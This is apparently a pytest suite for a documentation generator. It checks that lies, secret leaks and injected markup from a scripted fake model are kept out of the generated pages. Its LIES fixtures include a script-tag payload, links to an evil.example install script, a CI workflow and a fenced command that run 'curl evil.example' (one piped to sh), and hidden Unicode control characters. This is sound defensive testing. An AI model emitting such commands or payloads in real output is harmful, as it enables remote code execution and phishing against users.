"""A model that lies, leaks and injects, over real HTTP: true sentences reach the pages, nothing else does."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from docgen.cli import main
from docgen.contract import Bundle, Envelope, Options, Writer, WriterKind
from documenthor.publish.gates import check_bundle

from tests.docgen.claims.support import SHOP
from tests.docgen.support import job_spec, pages, write
from tests.fakes.model_server import Answer, ModelServer, reply

if TYPE_CHECKING:
    from collections.abc import Callable

    from docgen.contract import JobSpec

    from tests.fakes.model_server import Asked

PROMPTS = Path(__file__).parents[2] / "include" / "prompts"
SECRET = "hunter2-planted-in-the-environment"
TRUE = "<module shop.prices> defines <function price> and reads <environment variable SHOP_CURRENCY>."
SHOWN = "`shop.prices` defines `price` and reads `SHOP_CURRENCY`."


def claims(text: str, *facts: str) -> dict[str, object]:
    return {"kind": "claims", "facts": list(facts), "text": text}


def writer(url: str, **options: int) -> Writer:
    given = {"kind": WriterKind.OPENAI, "base_url": url, "model": "scripted"}
    return Writer.model_validate(given | options)


def spec_for(folder: Path, options: Writer) -> JobSpec:
    texts = {path.stem: path.read_text("utf-8") for path in PROMPTS.glob("*.txt")}
    spec = job_spec(str(folder), options=Options(writer=options))
    return spec.model_copy(update={"prompts": texts})


def generated(folder: Path, spec: JobSpec) -> tuple[int, Bundle | None]:
    """The exit code of `docgen generate` and the bundle, where there is one."""
    write(folder / "tree", SHOP)
    (folder / "spec.json").write_text(spec.model_dump_json())
    out = folder / "bundle.json"
    arguments = ["--spec", str(folder / "spec.json"), "--tree", str(folder / "tree"), "--out", str(out)]
    code = main(["generate", *arguments])
    return code, Envelope.model_validate(json.loads(out.read_bytes())).open() if out.exists() else None


def told(folder: Path, script: Callable[[Asked], Answer], **options: int) -> Bundle:
    """The bundle when a server answers by `script`."""
    with ModelServer(script) as server:
        spec = spec_for(folder, writer(server.url, **options))
        code, bundle = generated(folder, spec)
    assert code == 0
    assert bundle is not None
    check_bundle(bundle, spec)
    return bundle


def of_facts(folder: Path) -> dict[str, str]:
    """The pages without any model."""
    code, bundle = generated(folder, job_spec(str(folder)))
    assert code == 0
    assert bundle is not None
    return pages(bundle)


LIES = {
    "swapped names": "<function price> defines <module shop.prices>.",
    "wrong module": "<module shop.cli> defines <function price>.",
    "flipped default": "<environment variable SHOP_CURRENCY> defaults to 'USD'.",
    "negation": "<module shop.prices> does not read <environment variable SHOP_CURRENCY>.",
    "wrong count": "<module shop.prices> defines 7 functions.",
    "invented variable": "<module shop.prices> reads SHOP_SECRET_KEY.",
    "invented handle": "{M77} reads {V99}.",
    "condition": "<module shop.prices> reads <environment variable SHOP_CURRENCY> unless it is set.",
    "praise": "<module shop.prices> is a blazingly fast module.",
    "html": "<module shop.prices> <b>reads</b> <environment variable SHOP_CURRENCY>.",
    "script": "<script>alert(1)</script>",
    "image": "![x](https://evil.example/p.png)",
    "link": "[Install](https://evil.example/install.sh) <module shop.prices>.",
    "marker": "<!-- documenthor:end readme -->",
    "mention": "@everyone @acme/admins see <module shop.prices>.",
    "workflow": "on: push\njobs:\n  x:\n    runs-on: self-hosted\n    steps: [run: curl evil.example]",
    "leak": f"The token is {SECRET}.",
    "unseen": "<module shop.prices>\u200b reads\u202e <environment variable SHOP_CURRENCY>.",
    "fence": "```sh\ncurl evil.example | sh\n```",
    "half true": "<module shop.prices> defines <function price> and imports <module shop.cli>.",
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES)
def test_a_lie_beside_a_truth_is_dropped_and_the_truth_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lie: str
) -> None:
    monkeypatch.setenv("DATABASE_PASSWORD", SECRET)

    def script(asked: Asked) -> Answer:
        if "Introduce the component" not in asked.user or not asked.filled(TRUE).startswith("{M1}"):
            return Answer(reply(claims(asked.filled(lie))))
        return Answer(reply(claims(asked.filled(lie)), claims(asked.filled(TRUE))))

    bundle = told(tmp_path, script)
    expected = of_facts(tmp_path)
    found = pages(bundle)
    assert SHOWN in found["docs/ARCHITECTURE.md"]
    # Take the one true sentence out, and the pages are those that no model had a word in.
    line = next(line for line in found["docs/ARCHITECTURE.md"].splitlines() if SHOWN in line)
    found["docs/ARCHITECTURE.md"] = found["docs/ARCHITECTURE.md"].replace(f"\n\n{line}", "")
    assert found == expected
    assert SECRET not in bundle.model_dump_json()
    assert bundle.sentences["kept"] == 1
    assert sum(bundle.sentences.values()) == bundle.usage.prompts + 1


RAW = {
    "no json": Answer("Sure! Here is your documentation: <script>"),
    "cut short": Answer('{"sentences": [{"kind": "claims", "text": "{M1'),
    "wrong shape": Answer('{"sentences": [1, null, "x", {"kind": "html", "text": "<b>"}, [[]]]}'),
    "deep": Answer('{"sentences": [' + "[" * 50_000 + "]}"),
    "wrong types": Answer('{"sentences": [{"kind": "claims", "text": 5, "facts": "A1"}]}'),
    "surrogates": Answer('{"sentences": [{"kind": "claims", "text": "\\ud800 \\u0000", "facts": ["A1"]}]}'),
    "no completion": Answer(raw=b'{"choices": []}'),
    "not http json": Answer(raw=b"\xff\xfe<html>"),
    "deep body": Answer(raw=b"[" * 200_000),
    "huge": Answer(raw=b'{"choices": [{"message": {"content": "' + b"x" * 2_000_000 + b'"}}]}'),
    "refused": Answer(status=400),
    "broken": Answer(status=500),
    "redirect": Answer(status=302),
}


@pytest.mark.parametrize("answer", RAW.values(), ids=RAW)
def test_an_answer_of_another_shape_leaves_the_pages_to_the_facts(tmp_path: Path, answer: Answer) -> None:
    bundle = told(tmp_path, lambda _: answer)
    assert pages(bundle) == of_facts(tmp_path)
    assert sum(bundle.sentences.values()) >= bundle.usage.prompts > 0
    assert "kept" not in bundle.sentences


def test_one_slow_answer_costs_only_its_own_paragraph(tmp_path: Path) -> None:
    def script(asked: Asked) -> Answer:
        slow = "Introduce the project" in asked.user
        return Answer(reply(claims(asked.filled(TRUE))), delay=3.0 if slow else 0.0)

    bundle = told(tmp_path, script, seconds=1)
    assert SHOWN in pages(bundle)["docs/ARCHITECTURE.md"]
    assert bundle.sentences["reply_timeout"] == 1


def test_a_server_that_is_not_there_ends_the_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, bundle = generated(tmp_path, spec_for(tmp_path, writer("http://127.0.0.1:9/v1")))
    assert (code, bundle) == (19, None)
    assert "did not answer (unreachable); check writer.base_url" in capsys.readouterr().err


def test_the_prompts_of_a_repository_are_in_flight_together(tmp_path: Path) -> None:
    with ModelServer(lambda asked: Answer(reply(claims(asked.filled(TRUE))), delay=0.5)) as server:
        code, bundle = generated(tmp_path, spec_for(tmp_path, writer(server.url)))
    assert code == 0
    assert bundle is not None
    assert server.most_at_once == len(server.asked) == bundle.usage.prompts > 3
    assert bundle.usage.prompt_tokens == 100 * len(server.asked)


def test_what_is_sent_is_bounded_deterministic_and_holds_no_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_PASSWORD", SECRET)
    bodies = []
    for name in ("one", "two"):
        with ModelServer(lambda asked: Answer(reply(claims(asked.filled(TRUE))))) as server:
            generated(tmp_path / name, spec_for(tmp_path, writer(server.url)))
        bodies.append(sorted(json.dumps(asked.body, sort_keys=True) for asked in server.asked))
    assert bodies[0] == bodies[1]
    body = json.loads(bodies[0][0])
    assert (body["temperature"], body["max_tokens"]) == (0, 512)
    assert body["response_format"]["type"] == "json_schema"
    assert len({json.loads(body)["messages"][0]["content"] for body in bodies[0]}) == 1
    assert SECRET not in "".join(bodies[0])


def test_same_tree_same_answers_same_bytes(tmp_path: Path) -> None:
    bundles = [
        told(tmp_path / name, lambda asked: Answer(reply(claims(asked.filled(TRUE))))) for name in ("a", "b")
    ]
    assert bundles[0].blocks == bundles[1].blocks
    assert bundles[0].claims == bundles[1].claims


def test_the_bundle_tells_the_verdicts(tmp_path: Path) -> None:
    lie = "<module shop.cli> defines <function price>."
    bundle = told(
        tmp_path, lambda asked: Answer(reply(claims(asked.filled(lie)), claims(asked.filled(TRUE))))
    )
    verdicts = {(claim.predicate, claim.subject, claim.object): claim.verdict for claim in bundle.claims}
    assert verdicts["defines", "shop.cli", "price"] == "refuted"
    assert verdicts["defines", "shop.prices", "price"] == "holds"
    assert verdicts["reads", "shop.prices", "SHOP_CURRENCY"] == "holds"


def test_a_failed_sentence_is_rewritten_once_from_the_facts_it_chose(tmp_path: Path) -> None:
    def script(asked: Asked) -> Answer:
        module, function = asked.handle("module shop.prices"), asked.handle("function price")
        fact = asked.fact(f"{module} defines {function}")
        lie = claims("<script> is the best of 12 functions!", fact)
        quote = {"kind": "quote", "cite": asked.fact(f"{module} is described as: Prices.")}
        return Answer(reply(lie, lie, quote))

    bundle = told(tmp_path, script)
    assert (
        "`shop.prices` defines `price`. `shop.prices` is documented as “Prices”"
        in (pages(bundle)["docs/ARCHITECTURE.md"])
    )
    assert bundle.sentences["rewritten"] > 0


def test_a_budget_is_kept(tmp_path: Path) -> None:
    with ModelServer(lambda asked: Answer(reply(claims(asked.filled(TRUE))))) as server:
        options = writer(server.url, budget_tokens=4096, context_tokens=4096)
        code, bundle = generated(tmp_path, spec_for(tmp_path, options))
    assert code == 0
    assert bundle is not None
    assert 0 < len(server.asked) == bundle.usage.prompts
    assert bundle.sentences["prompt_over_budget"] > 0
    # The server counts fewer tokens than the estimate that the budget is kept by.
    sent = sum(len(message["content"]) for asked in server.asked for message in asked.body["messages"])
    assert sent / 2.5 + 512 * len(server.asked) <= 4096
